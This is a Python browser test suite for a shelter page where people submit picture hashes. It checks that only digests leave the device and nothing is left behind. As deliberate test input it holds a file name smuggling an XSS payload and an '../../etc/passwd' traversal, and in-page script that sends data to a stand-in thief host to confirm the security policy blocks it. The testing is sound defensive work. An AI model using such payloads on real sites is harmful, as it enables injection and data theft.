"""A shelter's page in a real browser: what leaves the device, what does not, and what is left nowhere.

Only benign pictures are used: blocks of colour that are full of a marker.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pdqhash
import pytest
from PIL import Image, PngImagePlugin

from comity.bootstrap import toolbox
from comity.cli.toolbox import ShelterWish
from comity.node.hashviews import Grounds
from comity.protection.categories import Subject
from tests.browser.chairs import JUDGED, NARROW, PATIENCE, TOO_WIDE, axe_source, until

MARKER = hashlib.sha256(b"planted in a benign picture").digest()[:18]
SPOKEN = MARKER.hex().encode()
VIDEO = Path(__file__).with_name("benign.webm")
NAME = (
    "<img src=//thief-of-names.example onerror=alert(1)> ../../etc/passwd marker-" + SPOKEN.decode() + ".png"
)
PATHS = re.compile(r"/safe/(|en|fr|ar|zh|ru|es|(app|prints|frames|hash|sw)\.js|safe\.css)")
CALLS = re.compile(r"/safe/(open|follow|add|withdraw|forget)")
HEX = re.compile(r"[0-9a-f]*")
HELD = """() => [...document.querySelectorAll("#items li .state")].map(one => one.textContent)"""


def picture(seed: int, size: tuple[int, int] = (480, 360)) -> bytes:
    """Blocks of colour, each third row the marker; and the marker as text beside them."""
    width, height = size
    rows = bytearray()
    line = (MARKER * (width * 3 // len(MARKER) + 1))[: width * 3]
    for y in range(height):
        row = bytearray()
        for x in range(0, width, 8):
            row += hashlib.sha256(b"%d %d %d" % (seed, y // 41, x // 52)).digest()[:3] * 8
        rows += line if y % 3 == 0 else row
    kept, note = io.BytesIO(), PngImagePlugin.PngInfo()
    note.add_text("Comment", SPOKEN.decode())
    Image.frombytes("RGB", size, bytes(rows)).save(kept, "PNG", pnginfo=note, compress_level=0)
    return kept.getvalue()


@dataclass
class Refuge:
    """A shelter that is served by a process of its own."""

    folder: Path
    address: str
    process: subprocess.Popen[str]
    key: str
    asked: list[Any] = field(default_factory=list)

    def memory(self) -> Iterator[bytes]:
        """Yield what the process that serves can write to, in its memory."""
        place = Path("/proc") / str(self.process.pid)
        with (place / "mem").open("rb", buffering=0) as memory:
            for line in (place / "maps").read_text().splitlines():
                span, rights = line.split()[:2]
                if not rights.startswith("rw") or "[v" in line:
                    continue
                start, end = (int(part, 16) for part in span.split("-"))
                memory.seek(start)
                for at in range(start, end, 1 << 24):
                    try:
                        yield memory.read(min(1 << 24, end - at))
                    except OSError:
                        break


@pytest.fixture(scope="module")
def refuge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Refuge]:
    folder = tmp_path_factory.mktemp("refuge") / "node"
    room = folder.with_name("tmp")
    room.mkdir()
    tools = toolbox()
    tools.init_node(
        str(folder),
        party="XAA",
        name="Safe Harbour",
        practice=True,
        exchange_port=None,
        passphrase=None,
        shelter=ShelterWish(hotline="Childline, 116", hotline_address="https://childline.example"),
    )
    with tools.open_node(str(folder), unlock=lambda _: None) as desks:
        actor = desks.actor(None)
        desks.shelter.make_list(actor, name="cafe", about="Platforms", ground="Act 9", licence="matching")
        grounds = Grounds(ground="Act 9", licence="matching")
        key = desks.hashes.share(actor, name="cafe", to="platform", grounds=grounds).key
    process = subprocess.Popen(
        [sys.executable, "-m", "comity", "serve", str(folder), "--port", "0", "--exchange-port", "0"],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env={
            "PYTHONPATH": str(Path(__file__).parents[2] / "src"),
            "TMPDIR": str(room),
            "HOME": str(room),
            "LC_ALL": "C.UTF-8",
        },
        cwd=room,
    )
    assert process.stdout is not None
    ready = process.stdout.readline()
    try:
        yield Refuge(folder=folder, address=ready.split()[-1], process=process, key=key)
    finally:
        process.terminate()
        process.wait(60)
        process.stdout.close()


@dataclass
class Visitor:
    """One person in one browser; everything that the browser asks for is kept."""

    page: Any
    context: Any
    refuge: Refuge
    asked: list[Any] = field(default_factory=list)
    heard: list[str] = field(default_factory=list)

    def see(self, step: str) -> None:
        """Wait for a step of the page."""
        self.page.wait_for_selector(f"[data-step={step}]:not([hidden])")

    def press(self, name: str) -> None:
        """Press a button, by key."""
        self.page.locator(f"[data-press={name}]").press("Enter")

    def choose(self) -> None:
        """Answer the questions of the page, as somebody of age whose picture it is."""
        for name, step in (("begin", "age"), ("adults", "whose"), ("mine", "pictures")):
            self.press(name)
            self.see(step)

    def agree_and_send(self) -> None:
        """Agree to everything, choose every receiver, send."""
        self.page.wait_for_selector("#to-send:not([disabled])")
        self.press("to-send")
        for one in self.page.locator("[data-list], [data-agree]").all():
            one.check()
        self.page.locator("form[data-submit=send] .actions button").press("Enter")

    def sent(self) -> list[dict[str, Any]]:
        """What the page sent, as it was sent."""
        return [json.loads(one.post_data) for one in self.asked if one.method == "POST"]


def visitor(browser: Any, refuge: Refuge, language: str = "en", **told: Any) -> Visitor:
    context = browser.new_context(locale=language, viewport=NARROW, reduced_motion="reduce", **told)
    context.set_default_timeout(PATIENCE)
    made = Visitor(page=context.new_page(), context=context, refuge=refuge)
    context.on("request", lambda request: made.asked.append(request))
    context.on("console", lambda message: made.heard.append(message.text))
    context.on("weberror", lambda error: made.heard.append(str(error.error)))
    made.page.goto(f"{refuge.address}/safe/{language}")
    made.page.wait_for_selector("body.ready")
    return made


def file(name: str, kind: str, data: bytes) -> dict[str, Any]:
    return {"name": name, "mimeType": kind, "buffer": data}


def texts(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for one in value.values():
            yield from texts(one)
    elif isinstance(value, list):
        for one in value:
            yield from texts(one)
    elif isinstance(value, str):
        yield value


def require_only_digits(person: Visitor, files: list[bytes]) -> None:
    """Fail unless nothing but digits left, to nobody but this node."""
    told = b""
    for one in person.asked:
        address = urlsplit(one.url)
        if address.scheme == "blob":
            continue
        assert f"{address.scheme}://{address.netloc}" == person.refuge.address
        assert address.query == ""
        assert (PATHS if one.method == "GET" else CALLS).fullmatch(address.path), address.path
        told += f"{one.url}\n{one.headers}\n".encode() + (one.post_data_buffer or b"")
        if one.method == "POST":
            assert len(one.post_data_buffer) <= 64 << 10
            assert all(HEX.fullmatch(text) for text in texts(json.loads(one.post_data)))
        assert "cookie" not in {name.lower() for name in one.headers}
    assert person.context.cookies() == []
    for part in (
        MARKER,
        SPOKEN,
        b"thief-of-names.example",
        b"passwd",
        b".png",
        *(data[:24] for data in files),
    ):
        for form in (part, part.hex().encode(), base64.b64encode(part)[:-4]):
            assert form not in told


def test_only_digits_leave_and_they_are_right(chromium: Any, refuge: Refuge) -> None:
    person, files = visitor(chromium, refuge), [picture(1), picture(2)]
    person.choose()
    person.page.set_input_files(
        "#files",
        [
            file(NAME, "image/png", files[0]),
            file("عطلة.png", "image/png", files[1]),
            file("clip.webm", "video/webm", VIDEO.read_bytes()),
            file("broken.png", "image/png", files[0][:400]),
        ],
    )
    person.agree_and_send()
    person.see("done")
    (sent,) = person.sent()
    require_only_digits(person, files)
    assert [one["video"] for one in sent["files"]] == [False, False, True, False]
    for one, data in zip(sent["files"], [*files, VIDEO.read_bytes(), files[0][:400]], strict=True):
        assert one["md5"] == hashlib.md5(data, usedforsecurity=False).hexdigest()
        assert one["sha256"] == hashlib.sha256(data).hexdigest()
    for one, data in zip(sent["files"], files, strict=False):
        assert apart(one["pdq"][0], data) <= 10
    assert 2 <= len(sent["files"][2]["pdq"]) <= 5  # the clip has three scenes in five seconds
    assert sent["files"][3]["pdq"] == []
    number, pin = person.page.inner_text("#number"), person.page.inner_text("#kept-pin")

    # the person takes one back, by number and PIN, typed with blanks
    person.page.reload()
    person.page.wait_for_selector("body.ready")
    person.press("to-enter")
    person.page.fill("#own-number", number)
    person.page.fill("#own-pin", pin)
    person.page.locator("#own-pin").press("Enter")
    person.see("case")
    person.page.set_input_files("#find", file(NAME, "image/png", files[1]))
    person.page.locator("#found", has_text="2").wait_for()
    person.page.locator("#items li:nth-child(2) button").press("Enter")
    person.page.locator(".sure button").first.press("Enter")
    person.page.wait_for_selector("#items li:nth-child(2):not(:has(button))")
    assert person.page.evaluate(HELD) == ["protected", "taken back", "protected", "protected"]
    require_only_digits(person, files)
    assert not [one for one in person.heard if "status of 403" not in one]

    # what a receiver gets, and what nobody finds: on disk, in memory, in what the process said
    with toolbox().open_node(str(refuge.folder), unlock=lambda _: None) as desks:
        from comity.node.hashdoors import HashDoors

        doors = HashDoors(desk=desks.hashes)
        walked = doors.walk(doors.receiver(refuge.key, subject=Subject.INTIMATE))
    states = [entry.state.value for _, entry in walked.found]
    assert states.count("withdrawn") == 2
    assert {entry.bar for _, entry in walked.found} == {"victim"}
    require_left_nowhere(refuge, number.replace(" ", ""))
    person.context.close()


def require_left_nowhere(refuge: Refuge, number: str) -> None:
    """Fail where the marker, a file's name or a case number lies anywhere at the node."""
    wanted = (MARKER, MARKER[:9] + MARKER[:9], SPOKEN, b"thief-of-names.example", number.encode())
    kept = [one for one in refuge.folder.parent.rglob("*") if one.is_file()]
    assert len(kept) > 10
    for one in kept:
        data = one.read_bytes()
        assert not [part for part in wanted if part in data], one
    try:
        found = [part for data in refuge.memory() for part in wanted[:4] if part in data]
        seen = any(b"XAA/shelter" in data for data in refuge.memory())
    except PermissionError:
        pytest.skip("this machine lets nobody look into a process's memory")
    assert seen, "the search finds what is there"
    assert found == []


def apart(pdq: str, data: bytes) -> int:
    """In how many bits a hash differs from the reference implementation's."""
    import numpy as np

    bits, _quality = pdqhash.compute(np.asarray(Image.open(io.BytesIO(data)).convert("RGB")))
    reference = int("".join(map(str, bits)), 2)
    return (int(pdq, 16) ^ reference).bit_count()


def test_it_works_without_a_connection_and_leaves_nothing_behind(chromium: Any, refuge: Refuge) -> None:
    person = visitor(chromium, refuge, "ar")
    person.page.evaluate("() => navigator.serviceWorker.ready.then(() => true)")
    person.page.reload()
    person.page.wait_for_selector("body.ready")
    person.context.set_offline(True)
    person.page.reload()
    person.page.wait_for_selector("body.ready")
    assert person.page.locator("html").get_attribute("dir") == "rtl"
    person.choose()
    person.page.set_input_files("#files", file(NAME, "image/png", picture(3)))
    person.agree_and_send()
    person.page.wait_for_selector("#status.bad")
    person.context.set_offline(False)
    person.page.locator("form[data-submit=send] .actions button").press("Enter")
    person.see("done")
    require_only_digits(person, [picture(3)])
    # Esc twice: gone, with the page kept for offline use, and without a way back to what was typed
    person.page.keyboard.press("Escape")
    person.page.keyboard.press("Escape")
    person.page.wait_for_url("about:blank")
    person.page.goto(f"{refuge.address}/safe/safe.css")
    kept = (
        "async () => [await caches.keys(), (await navigator.serviceWorker.getRegistrations()).length,"
        " localStorage.length, sessionStorage.length, (await indexedDB.databases()).length]"
    )
    until("nothing to be left", lambda: person.page.evaluate(kept) == [[], 0, 0, 0, 0])
    person.context.close()


@pytest.mark.parametrize("language", ["en", "ar"])
def test_every_step_is_whole_for_everyone(chromium: Any, refuge: Refuge, language: str) -> None:
    person = visitor(chromium, refuge, language, service_workers="block")
    page = person.page
    page.evaluate(axe_source())
    known: list[str] = []
    for step in page.locator("[data-step]").evaluate_all("all => all.map(one => one.dataset.step)"):
        page.evaluate("wanted => document.querySelectorAll('[data-step]').forEach("
                      "one => { one.hidden = one.dataset.step !== wanted })", step)  # fmt: skip
        found, styles = page.evaluate(JUDGED, [{"resultTypes": ["violations"], "preload": False}, known])
        known += styles
        assert [one["id"] for one in found] == [], step
        assert page.evaluate(TOO_WIDE) == [], step
    assert page.title() in ("Notes", "ملاحظات")
    person.context.close()


def test_a_minor_is_handed_over_and_nothing_is_sent(chromium: Any, refuge: Refuge) -> None:
    person = visitor(chromium, refuge, service_workers="block")
    before = len(person.asked)
    person.press("begin")
    person.press("minors")
    person.see("minors")
    assert "Childline, 116" in person.page.inner_text("[data-step=minors]")
    assert len(person.asked) == before
    # a page that a thief of the script would want: no other host, no picture, no form, nothing inline
    tried = person.page.evaluate("""async () => {
      const told = [];
      document.addEventListener("securitypolicyviolation", event => told.push(event.effectiveDirective));
      await fetch("https://thief-of-names.example/").catch(() => {});
      const image = new Image();
      const shown = new Promise((done) => { image.onload = image.onerror = done; });
      image.src = "/safe/safe.css?picture";
      await shown;
      navigator.sendBeacon("https://thief-of-names.example/", "x");
      try { new Worker("/safe/app.js"); } catch { told.push("trusted"); }
      try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); } catch { told.push("trusted"); }
      return told.sort();
    }""")
    assert {"connect-src", "img-src", "trusted"} <= set(tried)
    assert {urlsplit(one.url).netloc for one in person.asked} == {urlsplit(refuge.address).netloc}
    person.context.close()


def test_a_worker_that_breaks_is_told_and_the_next_one_works(chromium: Any, refuge: Refuge) -> None:
    person = visitor(chromium, refuge, service_workers="block")
    person.page.route(
        "**/hash.js", lambda route: route.fulfill(body="throw 1", content_type="text/javascript")
    )
    person.choose()
    person.page.set_input_files("#files", file("a.png", "image/png", picture(1)))
    person.page.wait_for_selector("#chosen .bad")
    person.page.unroute("**/hash.js")
    person.page.set_input_files("#files", file("b.png", "image/png", picture(2)))
    person.page.wait_for_selector("#chosen .good")
    assert person.sent() == []
    require_only_digits(person, [picture(1)])
    person.context.close()


def test_a_cut_between_two_calls_still_tells_the_number(chromium: Any, refuge: Refuge) -> None:
    person = visitor(chromium, refuge, service_workers="block")
    script = person.page.evaluate("async () => (await fetch('/safe/app.js')).text()")
    small = script.replace("MOST_BODY = 60000", "MOST_BODY = 4300")  # each picture in a call of its own
    person.page.route("**/app.js", lambda route: route.fulfill(body=small, content_type="text/javascript"))
    person.page.route("**/safe/add", lambda route: route.abort())
    person.page.reload()
    person.page.wait_for_selector("body.ready")
    person.choose()
    person.page.set_input_files(
        "#files", [file(f"{seed}.png", "image/png", picture(seed, (320, 240))) for seed in (5, 6, 7)]
    )

    def lost(route: Any) -> None:
        route.fetch()
        route.abort()  # the case is there, and its number never came

    person.page.route("**/safe/open", lost)
    person.agree_and_send()
    person.page.wait_for_selector("#status.bad")
    person.page.unroute("**/safe/open")
    person.page.locator("form[data-submit=send] .actions button").press("Enter")
    person.see("done")
    person.page.wait_for_selector("#status.bad")
    asked = [one["once"] for one in person.sent() if "once" in one]
    assert len(asked) == 2 and len(set(asked)) == 1
    number, pin = (person.page.locator(one).text_content() for one in ("#number", "#kept-pin"))
    assert len(number.replace(" ", "")) == 16 and len(pin.replace(" ", "")) == 8
    person.page.unroute("**/safe/add")
    person.press("to-case")
    person.see("case")
    person.press("add-more")
    person.page.wait_for_selector("#to-send:not([disabled])")
    person.press("to-send")
    person.see("case")
    person.page.wait_for_selector("#items > li:nth-child(3)")
    assert len(person.page.locator("#items > li").all()) == 3  # none twice
    person.context.close()


@pytest.mark.network
def test_another_node_has_no_such_page(stage: Any) -> None:
    import urllib.error
    import urllib.request

    for path in ("/safe/", "/safe/en", "/safe/app.js"):
        with pytest.raises(urllib.error.HTTPError) as caught:
            urllib.request.urlopen(stage.addresses[0] + path, timeout=60)
        caught.value.close()
        assert caught.value.code == 404
